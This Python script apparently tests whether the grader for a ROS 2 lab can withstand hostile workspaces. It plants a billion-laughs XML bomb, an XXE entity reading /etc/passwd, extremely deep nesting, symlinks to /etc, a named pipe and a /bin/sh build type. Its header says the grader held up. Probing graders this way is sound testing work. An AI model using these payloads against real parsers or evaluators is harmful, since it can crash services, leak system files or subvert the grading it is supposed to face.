# family = "breaking"
# assignment = "lab_1_1"
# tries = "The grader reads the files of a workspace itself: XML that grows to gigabytes, XML and Python nested a hundred thousand times, names with line breaks, links out of the workspace, a pipe."
# could_earn = "A grader without memory or time, or one that waits for ever."
# undefended = "Nothing was found that it stumbles over."

# %% solution files
import os
from pathlib import Path

src = Path("ros2_ws/src")


def package(name, xml, setup="from setuptools import setup\nsetup(name='x')\n"):
    folder = src / name
    folder.mkdir(parents=True)
    (folder / "package.xml").write_text(xml)
    (folder / "setup.py").write_text(setup)
    (folder / "CMakeLists.txt").write_text("find_package(" * 50_000)


laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
package("laughing", f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY l0 "ha">{laughs}]><package format="3"><name>&l9;</name></package>')
package("outside", '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]><package><name>&e;</name></package>')
package("deep", "<a>" * 60_000 + "</a>" * 60_000)
package("nested", '<package format="3"><name>nested</name><version>0.0.0</version></package>', "(" * 100_000)
package("my_robot_pkg", '<package format="3"><name>my_robot_pkg</name><name>my\nrobot</name><export><build_type>/bin/sh</build_type></export></package>')
os.symlink("/etc", src / "etc")
os.symlink("<<home>>", src / "my_robot_pkg" / "home")
os.mkfifo(src / "my_robot_pkg" / "pipe")
(src / "my_robot_pkg" / "srv").mkdir()
(src / "my_robot_pkg" / "srv" / "AddTwoInts.srv").write_text("int64 a\n" * 50_000)
